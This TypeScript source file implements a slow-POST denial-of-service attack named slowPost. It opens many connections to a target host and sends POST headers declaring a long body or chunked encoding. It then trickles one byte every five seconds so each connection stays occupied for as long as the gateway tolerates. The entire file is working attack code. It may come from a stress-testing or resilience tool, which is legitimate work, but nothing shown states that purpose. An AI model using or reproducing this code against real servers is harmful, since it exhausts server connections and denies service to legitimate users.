/** Uploads that come byte by byte: each is under way for as long as the gateway lets it be. */
import type { Attack } from './attack.ts'

const BYTE_EVERY_MS = 5_000

/** `length` is the Content-Length; 0 is a chunked body, of chunks of one byte. */
export const slowPost: Attack = (target, swarm, { connections, length }) => {
  const framing = length === 0 ? 'Transfer-Encoding: chunked' : `Content-Length: ${length}`
  const head = `POST / HTTP/1.1\r\nHost: ${target.host}\r\nContent-Type: text/plain\r\n${framing}\r\n\r\n`
  const piece = length === 0 ? '1\r\nx\r\n' : 'x'
  swarm.keepMany(Number(connections), () => {
    const socket = swarm.connect(target.http, 'plain', () => {
      socket.write(head + piece)
      const timer = setInterval(() => socket.write(piece), BYTE_EVERY_MS)
      socket.once('close', () => clearInterval(timer))
    })
    return socket.resume()
  })
}
